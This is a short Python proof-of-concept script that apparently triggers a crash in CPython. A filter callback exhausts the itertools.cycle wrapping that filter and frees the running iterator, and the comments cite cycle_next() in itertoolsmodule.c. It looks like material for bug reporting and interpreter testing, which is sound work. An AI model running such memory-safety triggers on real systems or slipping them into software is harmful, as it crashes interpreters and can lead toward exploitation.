# technique: the function of a filter exhausts the cycle around the filter, which frees the running filter
# goal: crash
# source: own analysis: cycle_next() in itertoolsmodule.c
import itertools


def function(x):
    if turns:
        turns.pop()
        for _ in it:
            pass
        junk.extend(bytes(b'A' * n) for n in range(15, 100, 16)
                    for i in range(200))
    return False


junk = []
for i in range(50):
    turns = [1]
    it = itertools.cycle(filter(function, map(int, list(range(50)))))
    list(it)
